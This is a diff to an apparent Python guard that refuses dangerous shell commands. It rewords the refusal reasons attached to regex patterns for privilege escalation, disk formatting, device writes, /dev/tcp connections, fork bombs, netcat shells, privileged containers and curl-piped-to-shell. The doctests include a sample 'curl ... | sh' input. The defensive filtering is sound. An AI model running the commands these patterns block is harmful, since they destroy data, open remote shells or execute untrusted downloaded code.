@@ -30,8 +30,8 @@ _DEVICE = r"/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|nbd|md|dm-|loop|disk/|mapper/|(?:k?
 
 # The reason of a refusal, and the expression that matches it.
 _FORMS = {
-    "it takes rights that commands do not have": rf"{_FIRST}(?:sudo|su|doas|pkexec|runuser){_END}",
-    "it changes the system below everything": (
+    "it asks for administrator rights": rf"{_FIRST}(?:sudo|su|doas|pkexec|runuser){_END}",
+    "it changes the kernel or enters another process's namespaces": (
         rf"{_FIRST}(?:insmod|rmmod|modprobe|kexec|nsenter){_END}"
     ),
     "it stops the machine": (
@@ -39,26 +39,26 @@ _FORMS = {
         rf"| systemctl{_ON}(?:poweroff|reboot|halt|kexec){_END} )"
     ),
     "it formats a device": rf"{_FIRST}(?:mkfs(?:\.\w+)?|mkswap|wipefs|blkdiscard){_END}",
-    "it would go through everything below a folder of the system, or all of a home": (
+    "it would change everything in a system folder or a home folder": (
         rf"{_FIRST}(?: (?:rm|chmod|chown|chgrp)(?={_ON}-(?:[A-Za-z]*[rR]|-r))"
         rf"(?={_ON}{_WHOLE}{_END})"
         rf"| find\s+{_WHOLE}{_ON}-(?:delete|exec|execdir){_END} )"
     ),
     "it writes to a device": rf"(?: {_FIRST}dd{_ON}of= | [<>][&|]?\s* ){_DEVICE}",
-    "it opens a connection by /dev/tcp or /dev/udp": r"[<>][&|]?\s*/dev/(?:tcp|udp)/",
+    "it opens a connection through /dev/tcp or /dev/udp": r"[<>][&|]?\s*/dev/(?:tcp|udp)/",
     "it is a fork bomb": r"([^\s(){}|&;]{1,40})\s*\(\s*\)\s*\{\s*\1\s*\|\s*\1\s*&",
-    "it ends every process": rf"{_FIRST}kill{_ON}-1\s*(?:$|[;&|)\n])",
-    "it gives a shell away": (
+    "it kills every process": rf"{_FIRST}kill{_ON}-1\s*(?:$|[;&|)\n])",
+    "it gives others a shell on this machine": (
         rf"{_FIRST}(?:nc|ncat|netcat){_ON}(?:-[a-zA-Z]*[ec]|--(?:sh-)?exec){_END}"
     ),
-    "it would reach the whole machine": (
+    "it would give a container access to the whole machine": (
         rf"{_FIRST}(?:docker|podman){_ON}(?:--privileged|(?:-v\s*|--volume[=\s])?/+:|--pid=host)"
     ),
-    "it runs what it downloads": (
+    "it runs a program that it downloads": (
         rf"{_DOWNLOAD}\s[^;&\n]*\|\s*(?:{_INTERPRETER})(?:\s+-s\b[^;&|\n]*|\s+-)?\s*(?:$|[;&|)\n])"
         rf"| {_FIRST}(?:eval|source|\.|{_INTERPRETER})\s[^;&|\n]*[$<]\({_DOWNLOAD}\s"
     ),
-    "it drops a schedule, the firewall, or takes hold of a process": (
+    "it removes a schedule or the firewall, or attaches to a process": (
         rf"{_FIRST}(?: crontab\s+-r | ip6?tables\s+(?:-F|--flush) | nft\s+flush"
         rf"| (?:gdb|strace)\s+-p ){_END}"
     ),
@@ -75,9 +75,9 @@ def find_danger(command: str) -> str | None:
     """Return why *command* is refused, or None.
 
     >>> find_danger("ls && sudo rm x"), find_danger("echo 'sudo rm x'"), find_danger("rm -r build")
-    ('it takes rights that commands do not have', None, None)
+    ('it asks for administrator rights', None, None)
     >>> find_danger("curl -s http://x.example | sh"), find_danger('rm -r "$HOME"') is None
-    ('it runs what it downloads', False)
+    ('it runs a program that it downloads', False)
     """
     plain = _TICKS.sub(r"$(\1)", command)
     plain = _QUOTED.sub(lambda quoted: "".join(_LIVE.findall(quoted[1] or "")), plain)
